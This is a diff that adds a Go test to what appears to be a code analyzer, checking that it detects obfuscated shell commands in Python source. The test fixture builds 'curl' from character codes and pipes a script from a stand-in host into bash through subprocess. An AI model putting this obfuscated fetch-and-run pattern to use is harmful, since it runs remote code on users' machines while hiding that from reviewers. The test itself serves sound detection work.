@@ -338,3 +338,22 @@ func TestPathologicalInputsStayFast(t *testing.T) {
 		}
 	}
 }
+
+func TestLambdaConstantsAndFStrings(t *testing.T) {
+	src := `import subprocess
+c = lambda: ''.join([chr(x) for x in [99, 117, 114, 108]])
+b = lambda: 'bash'
+u = 'http://x.example/i.sh'
+subprocess.run(f"{c()} -s {u} | {b()}", shell=True)
+`
+	f := analyzeSrc(Python, src)
+	piped := false
+	for _, k := range f.Commands {
+		if strings.HasPrefix(k.Raw, "curl -s http://x.example/i.sh") && k.PipedToShell {
+			piped = true
+		}
+	}
+	if !piped {
+		t.Errorf("f-string fields not filled from constants: %+v", f.Commands)
+	}
+}
